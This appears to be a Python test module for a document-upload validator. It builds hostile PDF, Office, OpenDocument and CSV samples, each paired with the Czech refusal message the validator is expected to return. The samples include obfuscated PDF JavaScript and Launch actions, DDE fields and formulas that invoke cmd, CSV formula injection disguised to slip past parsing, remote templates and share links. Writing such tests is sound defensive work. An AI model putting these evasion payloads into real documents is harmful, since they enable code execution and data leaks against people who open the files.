"""Uploads that look like any other document and must be refused for what is inside, each with how that begins."""

from tests.pages.documents.hostile import BROKEN, MACROS
from tests.pages.uploads.made_inside import (
    JS,
    docx,
    field,
    linked,
    odf,
    packed_pdf,
    pdf_of,
    rels,
    sheet,
    stream,
)

RUNS = "PDF při otevření něco spouští"
ATTACHED = "PDF v sobě má připojený jiný soubor."
SENDS = "Formulář v PDF odesílá nebo načítá data."
LEAVES = "PDF odkazuje do jiného souboru"
PDF_MEDIA = "V PDF je zvuk, video nebo 3D model."
STRANGE = "PDF při otevření nebo kliknutí dělá víc, než smí"
LINK = "Odkaz v dokumentu nevede na web"
EMBEDDED = "Dokument v sobě má vložený jiný soubor"
ELSEWHERE = "Dokument si při otevření bere část odjinud"
TEMPLATE = "Dokument si při otevření hledá šablonu"
DATA = "Tabulka si bere data z jiného sešitu"
FORMULA = "Vzorec v tabulce čte cizí data"
MEDIA = "V dokumentu je zvuk nebo video."
BUTTON = "Tlačítko nebo odkaz v prezentaci spouští"
EVENT = "Dokument při otevření nebo kliknutí spouští skript"
DDE = "Dokument si bere data z jiného programu (DDE)."
CELL = "Buňku v 2. řádku CSV by tabulkový program spustil"
DTD = '<!DOCTYPE x [<!ENTITY a "aaaa">]>'
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
GOTO_SHARE = b"<</S/GoToR/F(\\\\\\\\server\\\\share\\\\x.pdf)/D[0/Fit]>>"
PPT_CLICK = '<a:hlinkClick xmlns:a="a" action="ppaction://{}"/>'

PDFS = {
    "script in a name in hex": (pdf_of(catalog=b"/OpenAction<</S/J#61vaScript/J#53(x)>>"), RUNS),
    "program in a name in hex": (linked(b"<</S/L#61unch/F(cmd.exe)>>"), RUNS),
    "script in an object stream": (packed_pdf(JS, catalog=b"/OpenAction 6 0 R"), RUNS),
    "script in an object stream in hex digits": (
        packed_pdf(
            JS, catalog=b"/OpenAction 6 0 R", filters=b"/ASCIIHexDecode", pack=lambda plain: plain.hex().encode()
        ),
        RUNS,
    ),
    "script that nothing leads to": (packed_pdf(b"<</S/J#61vaScript/JS 7 0 R>>", b"(x)"), RUNS),
    "script whose kind stands elsewhere": (
        packed_pdf(b"<</S 7 0 R/JS(x)>>", b"/JavaScript", catalog=b"/OpenAction 6 0 R"),
        RUNS,
    ),
    "script said twice": (packed_pdf(b"<</S/URI/S/JavaScript/URI(https://x.cz)/JS(x)>>"), RUNS),
    "script behind a page turn": (
        linked(b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next " + JS + b">>]>>"),
        RUNS,
    ),
    "script of a field": (pdf_of(JS, page=b"/Annots[<</Subtype/Widget/FT/Tx/T(a)/AA<</K 4 0 R>>>>]"), RUNS),
    "script in the later revision": (
        pdf_of(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=b"/OpenAction 4 0 R", update=JS),
        RUNS,
    ),
    "script in the former revision": (pdf_of(JS, catalog=b"/OpenAction 4 0 R", update=b"null"), RUNS),
    "embedded file": (
        pdf_of(
            b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            stream(b"MZ"),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        ),
        ATTACHED,
    ),
    "invoice with its data": (
        pdf_of(b"<</Type/Filespec/UF(a.xml)/EF<</UF 5 0 R>>>>", stream(b"<x/>"), catalog=b"/AF[4 0 R]"),
        ATTACHED,
    ),
    "file behind a pin": (pdf_of(page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]>>]"), ATTACHED),
    "form that is sent": (linked(b"<</S/SubmitForm/F<</FS/URL/F(https://x.cz)>>>>"), SENDS),
    "form that reads a file": (linked(b"<</S/ImportData/F(x.fdf)>>"), SENDS),
    "page in a share": (linked(GOTO_SHARE), LEAVES),
    "page in an attachment": (linked(b"<</S/GoToE/T<</R/C/N(a.pdf)>>>>"), LEAVES),
    "data of a stream elsewhere": (pdf_of(stream(b"", b"/F(\\\\\\\\server\\\\x)")), LEAVES),
    "link to a file": (linked(b"<</S/URI/URI(file:///C:/a.exe)>>"), LINK),
    "link that is a script": (linked(b"<</S/URI/URI(\\njava script:1)>>"), LINK),
    "web page opened by itself": (pdf_of(catalog=b"/OpenAction<</S/URI/URI(https://x.cz)>>"), STRANGE),
    "printing by itself": (pdf_of(catalog=b"/OpenAction<</S/Named/N/Print>>"), STRANGE),
    "action that nobody knows": (linked(b"<</S/Nova>>"), STRANGE),
    "film": (pdf_of(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"), PDF_MEDIA),
    "sound": (linked(b"<</S/Sound/Sound 4 0 R>>"), PDF_MEDIA),
    "form of XFA": (pdf_of(stream(b"<xdp/>"), catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>"), "PDF je formulář XFA"),
    "password": (pdf_of(b"<</Filter/Standard/V 1/R 2/O(o)/U(u)/P -4>>", trailer=b"/Encrypt 4 0 R"), "PDF je zamčené"),
    "too much behind the end": (pdf_of(behind=b" " * 1025), "PDF není celé"),
    "web page behind the end": (pdf_of(behind=b"\n<html>"), "Za koncem PDF je přilepená webová stránka."),
    "no root": (pdf_of().replace(b"/Root", b"/Toor"), "PDF je poškozené"),
    "arrays in arrays": (pdf_of(b"[" * 5000 + b"]" * 5000), "PDF je poškozené"),
    "table that leads nowhere": (pdf_of(*[b"(x)"] * 60).replace(b"0 obj\n(x)", b"9 obj\n(x)"), "PDF je poškozené"),
}
DOCXS = {
    "external template": (docx("", ("attachedTemplate", "https://x.cz/a.dotm")), TEMPLATE),
    "external oleObject": (docx("", ("oleObject", "https://x.cz/a.xlsx")), EMBEDDED),
    "external picture": (docx("", ("image", "https://x.cz/pixel.png")), "Obrázek není v dokumentu vložený"),
    "external frame": (docx("", ("frame", "https://x.cz/a.htm")), ELSEWHERE),
    "share without the word external": (docx("", ("image", "\\\\server\\a.png", "in")), "Obrázek není v dokumentu"),
    "DDEAUTO in a field": (docx(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), "Pole DDEAUTO"),
    "DDE cut into runs": (docx(field(" D", "D", "E cmd")), "Pole DDE "),
    "DDE in a simple field": (docx('<w:p><w:fldSimple w:instr=" dde cmd "/></w:p>'), "Pole DDE "),
    "DDE around another field": (docx(field(" DD", field(" PAGE "), "E cmd")), "Pole DDE"),
    "text from another file": (docx(field(' INCLUDETEXT "C:\\\\a.docx" ')), "Pole INCLUDETEXT"),
    "link to a share in a field": (docx(field(' HYPERLINK \\l "x" "fi', 'le://server/a" ')), LINK),
    "link to a program": (docx("", ("hyperlink", "file:///C:/a.exe")), LINK),
    "embedded OLE": (docx(more=[("word/embeddings/oleObject1.bin", OLE)]), EMBEDDED),
    "embedded OLE elsewhere": (
        docx("", ("oleObject", "media/a.bin", "in"), more=[("word/media/a.bin", OLE)]),
        EMBEDDED,
    ),
    "web page as a part": (docx('<w:altChunk xmlns:r="r" r:id="r1"/>', ("aFChunk", "a.html", "in")), EMBEDDED),
    "buttons of its own": (docx(more=[("customUI/customUI14.xml", "<customUI/>")]), MACROS),
    "part that nobody knows": (
        docx(more=[("word/a.dat", b"x")]),
        "Uvnitř dokumentu je část, kterou neznáme (word/a.dat).",
    ),
    "document type inside": (docx(more=[("word/header1.xml", f"{DTD}<x>&a;</x>")]), BROKEN),
    "document type in relationships": (docx(more=[("word/_rels/header1.xml.rels", f"{DTD}{rels()}")]), BROKEN),
    "elements in elements": (docx("<w:p>" * 600 + "</w:p>" * 600), BROKEN),
    "part that is no XML": (docx(more=[("word/header1.xml", "<a><b></a>")]), BROKEN),
}
XLSXS = {
    "ddeLink": (sheet(name="xl/externalLinks/externalLink1.xml", content=DDE_LINK), DATA),
    "other workbook": (
        sheet(
            "xlsx", "xl/externalLinks/externalLink1.xml", "<externalLink/>", ("externalLinkPath", "file:///C:/a.xlsx")
        ),
        DATA,
    ),
    "database": (sheet("xlsx", "xl/a.xml", "<a/>", ("connections", "connections.xml", "in")), DATA),
    "DDE in a formula": (sheet(content="<c><f>cmd|'/c calc'!A0</f></c>"), FORMULA),
    "web in a formula": (sheet(content='<c><f>_xlfn.WEBSERVICE ("https://x.cz/?"&amp;A1)</f></c>'), FORMULA),
}
PPTXS = {
    "click that starts a program": (sheet("pptx", "ppt/slides/slide1.xml", PPT_CLICK.format("program")), BUTTON),
    "click that starts a macro": (sheet("pptx", "ppt/slides/slide1.xml", PPT_CLICK.format("macro?name=x")), BUTTON),
    "embedded object": (sheet("pptx", "ppt/slides/slide1.xml", '<p:oleObj xmlns:p="p"/>'), EMBEDDED),
    "sound of a slide": (
        sheet(
            "pptx", "ppt/a.xml", "<a/>", more=[("ppt/media/a.wav", b"RIFF")], parts=[("ppt/media/a.wav", "audio/wav")]
        ),
        MEDIA,
    ),
}
ODTS = {
    "event listener": (
        odf('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'),
        EVENT,
    ),
    "library of macros": (odf("<office:scripts><ooo:library-embedded/></office:scripts>"), EVENT),
    "macro in a field": (odf('<text:execute-macro text:name="a"/>'), EVENT),
    "macro in a link": (odf('<text:a xlink:href="macro:///Standard.Module1.Main"/>'), LINK),
    "link to a share": (odf('<text:a xlink:href="file://server/a.odt"/>'), LINK),
    "section from a file": (odf('<text:section-source xlink:href="../a.odt"/>'), ELSEWHERE),
    "picture from the web": (odf('<draw:image xlink:href="https://x.cz/pixel.png"/>'), ELSEWHERE),
    "template from the web": (odf('<meta:template xlink:href="https://x.cz/a.ott"/>'), ELSEWHERE),
    "data from a program": (odf('<office:dde-source office:dde-application="soffice"/>'), DDE),
    "object that is OLE": (odf('<draw:object-ole xlink:href="./Object 1"/>', more=[("Object 1", OLE)]), EMBEDDED),
    "OLE in the manifest": (odf(entries='<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>'), EMBEDDED),
    "film inside": (odf(more=[("Media/a.mp4", b"x")]), MEDIA),
    "document type inside": (odf(more=[("meta.xml", f"{DTD}<x>&a;</x>")]), BROKEN),
}
ODSS = {
    "DDE in a formula": (
        odf('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/>', "ods"),
        FORMULA,
    ),
}
ODPS = {
    "click that starts a program": (
        odf('<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>', "odp"),
        EVENT,
    ),
    "sound of a slide": (odf('<presentation:sound xlink:href="a.wav"/>', "odp"), MEDIA),
}
CSVS = {
    "formula behind the other delimiter": (b"a;b\nx,=HYPERLINK(1);2\n", CELL),
    "formula behind the other delimiter in quotation marks": (b'a;b\nx;"y,=1+1,z"\n', CELL),
    "call behind the other delimiter": (b"a;b\nx,-HYPERLINK (1);2\n", CELL),
    "formula behind a line break": (b'a;b\n"x\n=1+1";2\n', CELL),
    "command behind a line break": (b"a;b\n\"x\r+cmd|' /C calc'!A0\";2\n", CELL),
    "formula behind a space": ("a;b\n\u00a0 =1+1;2\n".encode(), CELL),
    "formula behind a tab": (b'a;b\n"\t@SUM(1)";2\n', CELL),
    "formula in quotation marks twice": (b'a;b\n"""=1+1""";2\n', CELL),
    "wide equals sign": ("a;b\n＝1+1;2\n".encode(), CELL),
    "wide plus": ("a;b\n＋SUM(A1);2\n".encode(), CELL),
    "wide minus": ("a;b\n－SUM(A1);2\n".encode(), CELL),
    "wide at sign": ("a;b\n＠SUM(A1);2\n".encode(), CELL),
    "line without end": (b"a;b\n" + b"x" * (1 << 20), "Řádek v souboru CSV je delší"),
}
HIDDEN = {
    f"{extension}: {case}": (f"soubor.{extension}", content, beginning)
    for extension, cases in [
        ("pdf", PDFS),
        ("docx", DOCXS),
        ("xlsx", XLSXS),
        ("pptx", PPTXS),
        ("odt", ODTS),
        ("ods", ODSS),
        ("odp", ODPS),
        ("csv", CSVS),
    ]
    for case, (content, beginning) in cases.items()
}
